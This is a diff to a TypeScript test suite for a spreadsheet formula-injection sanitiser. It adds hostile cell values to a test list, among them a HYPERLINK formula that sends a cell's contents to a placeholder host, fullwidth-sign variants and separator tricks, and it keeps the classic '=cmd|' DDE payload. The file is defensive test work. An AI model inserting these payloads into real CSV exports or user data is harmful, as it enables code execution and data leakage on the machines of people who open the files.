@@ -12,6 +12,20 @@ const NASTY = [
   '@cmd',
   '\tx',
   '\rx',
+  '\nx',
+  '\r\n=1',
+  '＝1+1',
+  "'＠x",
+  'A;=HYPERLINK("http://x/?"&A1;"ok")',
+  "A;'=1",
+  "A;''＋1;-2;",
+  ';=1',
+  'A;"=1;',
+  `A;"'=1;""-1`,
+  ';',
+  'A\t-1\n+1\r\n@x\r=1',
+  'A\n＝1',
+  "=1;'-1\t=\t=",
   "'=1",
   "''@x",
   "'plain",
@@ -22,12 +36,30 @@ const NASTY = [
   '=cmd|" /C calc"!A0',
 ];
 
+/** The cells that a spreadsheet sees which takes these for what separates them, quotes or no quotes. */
+const cellsBy = (separators: RegExp, text: string) => text.split(separators);
+
 test('every cell comes back as it was, and none begins a formula', () => {
   for (const text of NASTY) {
     const cell = harmlessCell(text, false);
     assert.equal(originalCell(cell), text);
-    assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
+    assert.doesNotMatch(cell, /^[=+\-@＝＋－＠\t\r\n]/);
   }
+});
+
+test('none begins a formula for a spreadsheet that goes by semicolons, tabs or lines either', () => {
+  const file = NASTY.map((text) => `C-1,${csvCell(text)},2\r\n`).join('');
+  for (const separators of [/[;\r\n]/, /[\t\r\n]/, /[,;\t\r\n]/])
+    for (const cell of cellsBy(separators, file)) assert.doesNotMatch(cell, /^"*[=+\-@＝＋－＠]/, JSON.stringify(cell));
+});
+
+test('within a text that people approved what they saw stays, and what a value brings does not', () => {
+  const text = "Today;-) only:\n- ten;'=x\n";
+  const value = "=1\n- two;'@y;";
+  const isApproved = (at: number) => at < text.length || at >= text.length + value.length;
+  const cell = harmlessCell(`${text}${value}+ three`, false, isApproved);
+  assert.equal(cell, "Today;-) only:\n- ten;''=x\n'=1\n'- two;''@y;'+ three");
+  assert.equal(originalCell(cell), `${text}${value}+ three`);
 });
 
 test('only identifiers that are wholly numbers or phone numbers keep their sign', () => {
